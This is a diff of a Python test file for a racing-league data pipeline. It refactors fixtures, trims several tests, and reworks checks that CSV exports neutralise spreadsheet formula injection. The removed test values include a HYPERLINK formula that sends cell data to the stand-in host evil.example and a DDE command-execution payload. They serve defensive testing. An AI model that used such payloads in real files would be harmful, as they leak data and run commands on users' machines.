@@ -16,10 +16,11 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from ingest.source import public_source
+from publish import documentation
 from publish.datapackage import MOMENT
-from publish.spreadsheet import TABLES, harmless, write_rows
-from publish.tables import PublishedTable, published_tables
-from tests.helpers.pipeline import ROOT, Pipeline, contents
+from publish.spreadsheet import TABLES, harmless
+from publish.tables import published_tables
+from tests.helpers.pipeline import ROOT, Pipeline, contents, run_dbt_warm
 from tests.helpers.readme import PYTHON, printed
 from tests.helpers.site import Parsed
 
@@ -112,28 +113,23 @@ def test_a_source_is_published_without_what_is_private(source, public):
     assert public_source(source) == public
 
 
-def test_a_new_mart_is_exported_without_another_edit_and_again_in_the_same_bytes(league):
-    """Quietly in a pipe; nothing comes back of what a killed run left behind."""
+def test_a_new_mart_is_exported_without_another_edit_and_quietly_in_a_pipe(whole):
+    league = whole
     mart = league.project / "models/marts/fastest_laps.sql"
     mart.write_text("select 1 as season, [1.5, null] as laps")
     assert league.build_again("fastest_laps").returncode == 0
-    assert league.publish("--everything").returncode == 0
+    done = league.publish("--everything")
+    assert (done.returncode, done.stderr) == (0, "")
+    assert "Writing" not in done.stdout and "\x1b" not in done.stdout
     file = league.data / "parquet/fastest_laps.parquet"
     assert league.ask(f"select season, len(laps) from '{file}'") == [(1, 2)]
     described = manifest(league)["tables"]["fastest_laps"]["columns"]
     assert [column["name"] for column in described] == ["season", "laps"]
-    before = contents(league.data / "parquet")
-    leftover = league.data / "releases/9/parquet/old.parquet"
-    leftover.parent.mkdir(parents=True)
-    leftover.write_text("half")
-    done = league.publish("--everything")
-    assert (done.returncode, done.stderr) == (0, "")
-    assert "Writing" not in done.stdout and "\x1b" not in done.stdout
-    assert contents(league.data / "parquet") == before
 
 
-def test_after_a_failed_test_everything_is_as_it_was(league):
+def test_after_a_failed_test_everything_is_as_it_was(whole):
     """A car too many in a round: the models build, the test on them fails."""
+    league = whole
     before = contents(league.data, "league.duckdb", "parquet", "csv", "site")
     model = league.project / "models/intermediate/int_awards.sql"
     model.write_text(model.read_text().replace("<= line.quota", "<= line.quota + 1"))
@@ -203,54 +199,24 @@ def test_a_data_package_names_every_file_with_its_columns_and_what_they_mean(eve
     assert "no licence" in described["description"]
 
 
-def test_every_key_of_a_data_package_holds_in_the_files(everything):
-    folder = everything.data / "parquet"
-    keys = references = 0
-    for resource in read(folder / "datapackage.json")["resources"]:
-        file, fields = folder / resource["path"], resource["schema"]
-        if key := fields.get("primaryKey"):
-            keys += 1
-            columns = ", ".join(key)
-            twice = f"select 1 from '{file}' group by {columns} having count(*) > 1"
-            assert not everything.ask(twice)
-        for reference in fields.get("foreignKeys", []):
-            references += 1
-            (column,), (to,) = reference["fields"], reference["reference"]["fields"]
-            there = folder / f"{reference['reference']['resource']}.parquet"
-            assert not everything.ask(
-                f"select 1 from '{file}' as here where {column} is not null and not exists "
-                f"(select 1 from '{there}' as there where there.{to} = here.{column})"
-            )
-    assert keys > 20 and references > 10
-
-
 # CSV
 
 TRIGGERS = tuple("=+-@＝＋－＠")
-NASTY = (
-    *('=HYPERLINK("http://evil.example/?"&A1,"me")', "=cmd|' /C calc'!A0", "+1+1", "-2+3"),
-    *("@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "a;=1+1", 'a,"=1+1'),
-    *("a\n=1+1", "-1lhRLeeRTCRUGoxx3ybDA"),
-)
 
 
-def test_a_name_that_could_be_a_formula_gets_an_apostrophe_and_no_other_does(tmp_path):
-    for alias in NASTY:
-        cell = harmless(alias)
-        assert cell.replace("'", "") == alias.replace("'", "")
-        assert not cell.startswith((*TRIGGERS, "\t", "\r", "\n"))
-        assert "'" in cell
+def test_a_name_that_is_no_formula_stays_as_it_is():
     for alias in ["S-P-", "a=b", "me@work", "007", "名前", "'quoted'", "", "NULL"]:
         assert harmless(alias) == alias
-    write_rows(tmp_path / "a.csv", ["alias"], [[alias] for alias in NASTY])
-    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as lines:
-        assert list(csv.reader(lines)) == [["alias"], *([harmless(alias)] for alias in NASTY)]
 
 
-@given(st.lists(st.text(alphabet="=+-@＝;,\t\r\n\"' a1"), min_size=1, max_size=3))
-def test_no_cell_is_a_formula_whatever_a_spreadsheet_takes_for_the_separator(cells):
+@given(
+    st.sampled_from(["\t=1+1", " =1+1", "a\n=1+1", "-1lhRLeeRTCRUGoxx3ybDA", 'a,"=1+1'])
+    | st.text(alphabet="=+-@＝;,\t\r\n\"' a1")
+)
+def test_no_name_is_a_formula_whatever_a_spreadsheet_takes_for_the_separator(name):
+    assert harmless(name).replace("'", "") == name.replace("'", "")
     line = io.StringIO()
-    csv.writer(line).writerow([harmless(cell) for cell in cells])
+    csv.writer(line).writerow([harmless(name)])
     for naive in (
         *re.split(r"[;,\t\r\n]", line.getvalue()),
         *next(csv.reader([line.getvalue()])),
@@ -280,24 +246,13 @@ def test_the_csv_files_hold_the_winner_tables_row_for_row_and_type_for_type(ever
 # Descriptions
 
 
-def not_described(table: PublishedTable, columns: list[str]) -> list[str]:
-    """What a reader of the table is not told, a sentence each."""
-    problems = []
-    if not re.match(r"One row per \w", table.description):
-        problems.append(f'{table.name}: expected "One row per …", found {table.description!r}')
-    return problems + [
-        f"{table.name}.{column}: no description"
-        for column in columns
-        if not table.columns.get(column)
-    ]
-
-
 @pytest.fixture(scope="module")
 def page(everything, tmp_path_factory) -> str:
     """dbt's own documentation, as `make docs` leaves it."""
     to = tmp_path_factory.mktemp("docs")
-    done = everything.run("python", "-m", "league", "docs", "--to", str(to / "docs"))
-    assert done.returncode == 0, done.stderr
+    with pytest.MonkeyPatch.context() as patched:
+        patched.setattr(documentation, "run", run_dbt_warm)
+        documentation.document(everything.data, to / "docs")
     assert everything.publish().returncode == 0, "the record of the build is left alone"
     return (to / "docs/index.html").read_text(encoding="utf-8")
 
@@ -310,7 +265,8 @@ def test_every_published_table_and_column_is_described_everywhere_grain_first(
     site = everything.data / "site"
     for table in described:
         columns = [row[0] for row in everything.ask(f"describe {table.name}")]
-        assert not not_described(table, columns)
+        assert re.match(r"One row per \w", table.description), table.name
+        assert list(filter(table.columns.get, columns)) == columns, table.name
         # As comments in the database,
         where = f"where schema_name = 'main' and table_name = '{table.name}'"
         comments = everything.ask(f"select column_name, comment from duckdb_columns() {where}")
@@ -325,8 +281,6 @@ def test_every_published_table_and_column_is_described_everywhere_grain_first(
         for words in (table.description, *table.columns.values()):
             assert words.replace("`", "") in text, table.name
             assert json.dumps(words)[1:-1] in page
-    bad = PublishedTable("cars", "All cars.", {"alias": "The name.", "race": ""})
-    assert len(not_described(bad, ["alias", "race", "season"])) == 3
 
 
 def test_the_documentation_names_no_folder_and_asks_no_other_host_for_anything(
